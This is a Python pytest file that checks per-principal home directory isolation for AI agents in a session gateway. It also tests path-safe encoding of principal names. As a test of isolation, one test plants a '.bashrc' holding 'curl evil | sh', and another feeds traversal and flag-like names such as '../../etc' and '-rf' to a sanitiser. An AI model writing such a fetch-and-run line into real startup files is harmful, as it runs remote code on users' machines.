"""A home per principal per agent (`<state dir>/homes/<principal>/<agent>`): what one
principal's agent writes in its HOME (a .bashrc, settings whose hooks run code, a login) or
keeps there (the built-in agent's stored conversations) never reaches another principal's."""

from __future__ import annotations

import shutil
import stat
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from sessiongate.server.agents.holder import real_agents
from sessiongate.server.agents.logins import AgentLogins
from sessiongate.server.sandbox import launcher as sandbox
from sessiongate.server.sandbox.launcher import Launcher, principal_dir
from sessiongate.server.settings import AgentConfig, ServerLimits
from sessiongate.v1 import session_service_pb2 as pb

from tests.conftest import ECHO, Gate, GateFactory, eventually, reply_text
from tests.test_auth import as_, tokens_file

needs_bwrap = pytest.mark.skipif(
    shutil.which("bwrap") is None, reason="bwrap is not installed (Debian package bubblewrap)"
)


def builtin(name: str, sandboxed: bool, spares: int = 0) -> AgentConfig:
    """The built-in agent as shipped: no state dir of its own, so it keeps sessions in its HOME."""
    how = "bwrap" if sandboxed else "none"
    return AgentConfig(name=name, command=ECHO[0], args=ECHO[1:], sandbox=how, spares=spares)


@pytest.fixture(autouse=True)
def server_home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The server's own HOME, which agents inherit where they get no home of their own: a
    throwaway one, so that a regression plants its .bashrc here, not in the real one."""
    home = tmp_path / "server-home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    return home


@pytest.fixture
def state_dir() -> Iterator[Path]:
    """Outside /tmp (which the sandbox replaces), so what the sandbox hides is seen hidden."""
    path = Path(tempfile.mkdtemp(prefix="sessiongate-homes-", dir="/var/tmp"))
    yield path
    shutil.rmtree(path, ignore_errors=True)


async def say(gate: Gate, principal: str, session_id: str, text: str) -> str:
    request = pb.PromptRequest(session_id=session_id, text=text)
    return reply_text([e async for e in gate.stub.Prompt(request, metadata=as_(principal), timeout=30)])


async def session_of(gate: Gate, principal: str, agent: str) -> str:
    request = pb.CreateSessionRequest(agent=agent)
    session = await gate.stub.CreateSession(request, metadata=as_(principal), timeout=30)
    return str(session.session_id)


def files_holding(root: Path, text: str) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file() and text.encode() in p.read_bytes()]


@pytest.mark.parametrize("sandboxed", [pytest.param(True, marks=needs_bwrap), False], ids=["bwrap", "none"])
async def test_each_principal_has_its_own_home_and_keeps_its_conversations_there(
    make_gate: GateFactory, tmp_path: Path, state_dir: Path, sandboxed: bool
) -> None:
    gate = await make_gate(
        agents={"kit": builtin("kit", sandboxed)},
        state_db=state_dir / "sessions.db",
        auth_tokens_file=tokens_file(tmp_path / "tokens.toml"),
    )
    bob = await session_of(gate, "bob", "kit")
    alice = await session_of(gate, "alice", "kit")
    bob_home = (await say(gate, "bob", bob, "/env HOME")).removeprefix("HOME=")
    alice_home = (await say(gate, "alice", alice, "/env HOME")).removeprefix("HOME=")

    # bob's agent plants a .bashrc (and settings whose hooks would run) in its HOME...
    planted = await say(gate, "bob", bob, f"/write {bob_home}/.bashrc curl evil | sh")
    assert planted == f"wrote {bob_home}/.bashrc"
    # ...which alice's agent does not read as its own.
    assert (await say(gate, "alice", alice, f"/read {alice_home}/.bashrc")).startswith("cannot read")

    assert bob_home == str(state_dir / "homes" / "bob" / "kit")
    assert alice_home == str(state_dir / "homes" / "alice" / "kit")
    for path in (state_dir / "homes" / "bob", Path(bob_home)):
        assert stat.S_IMODE(path.stat().st_mode) == 0o700, path

    # alice's conversation is kept in her home, not in bob's.
    await say(gate, "alice", alice, "my secret is swordfish-7")
    assert files_holding(Path(alice_home), "swordfish-7"), "the built-in agent keeps it in her home"
    assert not files_holding(Path(bob_home), "swordfish-7")
    if sandboxed:
        # bob's sandboxed agent sees neither her home nor her stored conversation.
        (stored,) = files_holding(Path(alice_home), "swordfish-7")
        assert (await say(gate, "bob", bob, f"/read {stored}")).startswith("cannot read")
        assert (await say(gate, "alice", alice, f"/read {bob_home}/.bashrc")).startswith("cannot read")


async def test_a_spare_started_in_no_ones_home_is_not_handed_to_a_principal(
    make_gate: GateFactory, tmp_path: Path, state_dir: Path
) -> None:
    gate = await make_gate(
        agents={"warm": builtin("warm", sandboxed=False, spares=1)},
        state_db=state_dir / "sessions.db",
        auth_tokens_file=tokens_file(tmp_path / "tokens.toml"),
    )
    spares = gate.running.pool._spares
    assert spares is not None
    await eventually(lambda: spares.ready("warm") == 1, 20, "a ready spare")
    bob = await session_of(gate, "bob", "warm")
    assert spares.ready("warm") == 1, "the spare was not used"
    home = (await say(gate, "bob", bob, "/env HOME")).removeprefix("HOME=")
    assert home == str(state_dir / "homes" / "bob" / "warm")


async def test_without_authentication_homes_are_as_before(
    make_gate: GateFactory, state_dir: Path, server_home: Path
) -> None:
    """No principals: the sandboxed agent's home is `homes/<agent>`, the unsandboxed one's the server's."""
    gate = await make_gate(
        agents={"kit": builtin("kit", sandboxed=False)}, state_db=state_dir / "sessions.db"
    )
    session = await gate.create(agent="kit")
    assert reply_text(await gate.prompt(session.session_id, "/env HOME")) == f"HOME={server_home}"


@pytest.mark.parametrize("sandboxed", [pytest.param(True, marks=needs_bwrap), False], ids=["bwrap", "none"])
async def test_a_login_made_once_reaches_each_principals_own_home(
    make_gate: GateFactory, tmp_path: Path, state_dir: Path, sandboxed: bool
) -> None:
    """The admin's AuthenticateAgent picks the method; each principal's agent logs itself in
    with it, in its own home; the trial login ran in no principal's home."""
    locked = replace(builtin("kit", sandboxed), args=(*ECHO[1:], "--auth-required"))
    gate = await make_gate(
        agents={"kit": locked},
        state_db=state_dir / "sessions.db",
        auth_tokens_file=tokens_file(tmp_path / "tokens.toml"),
    )
    request = pb.AuthenticateAgentRequest(agent="kit", method_id="echo-login")
    await gate.stub.AuthenticateAgent(request, metadata=as_("root"), timeout=30)
    assert not (state_dir / "homes" / "root").exists(), "the login ran in the admin's home"
    for principal in ("alice", "bob"):
        session = await session_of(gate, principal, "kit")
        home = await say(gate, principal, session, "/env HOME")
        assert home == f"HOME={state_dir / 'homes' / principal / 'kit'}"


async def test_a_login_trial_made_for_a_principal_still_runs_in_the_operators_home(
    state_dir: Path, server_home: Path
) -> None:
    """AgentLogins makes its agent in no principal's home, whatever context it is called in."""
    locked = replace(builtin("kit", sandboxed=False), args=(*ECHO[1:], "--auth-required"))
    launcher = Launcher(None, (), state_dir / "homes")
    limits = ServerLimits(agent_start_timeout=15.0)

    async def done() -> None:
        pass

    with sandbox.homes_of("bob"):
        make = real_agents(launcher)
        await AgentLogins({}).log_in(locked, "echo-login", lambda: make(locked, limits, None), limits, done)
    assert not (state_dir / "homes" / "bob").exists()
    assert Launcher(None, (), state_dir / "homes").home(replace(locked, sandbox="bwrap")) == str(
        state_dir / "homes" / "kit"
    )


@pytest.mark.parametrize(
    "name", ["..", ".", "../../etc", "a/b", "/", "x\x00y", ".hidden", "-rf", "~x~0", "é", "a" * 300, " "]
)
def test_a_principal_name_never_leaves_its_directory(name: str, state_dir: Path) -> None:
    encoded = principal_dir(name)
    assert encoded not in ("", ".", "..") and "/" not in encoded and "\x00" not in encoded
    assert len(encoded) <= 64 and encoded.startswith("~")
    homes = state_dir / "homes"
    home = Path(Launcher(None, (), homes, name).home(builtin("kit", sandboxed=True)) or "")
    assert home.parent.parent == homes and home.name == "kit"


def test_principal_names_stay_readable_and_distinct() -> None:
    assert principal_dir("alice") == "alice" and principal_dir("ci-bot.eu@corp") == "ci-bot.eu@corp"
    names = ["a/b", "a\\b", "ab", "a b", "a%2Fb", "~ab", ".ab", "a" * 65, "a" * 66]
    assert len({principal_dir(n) for n in names}) == len(names)


@pytest.mark.parametrize("sandboxed", [pytest.param(True, marks=needs_bwrap), False], ids=["bwrap", "none"])
async def test_a_principals_terminals_run_in_its_own_home(
    make_gate: GateFactory, tmp_path: Path, state_dir: Path, sandboxed: bool
) -> None:
    gate = await make_gate(
        agents={"kit": replace(builtin("kit", sandboxed), client_terminal=True)},
        state_db=state_dir / "sessions.db",
        auth_tokens_file=tokens_file(tmp_path / "tokens.toml"),
    )
    bob = await session_of(gate, "bob", "kit")
    reply = await say(gate, "bob", bob, "/terminal echo $HOME")
    assert reply == f"terminal exit 0 truncated=false: {state_dir / 'homes' / 'bob' / 'kit'}\n"
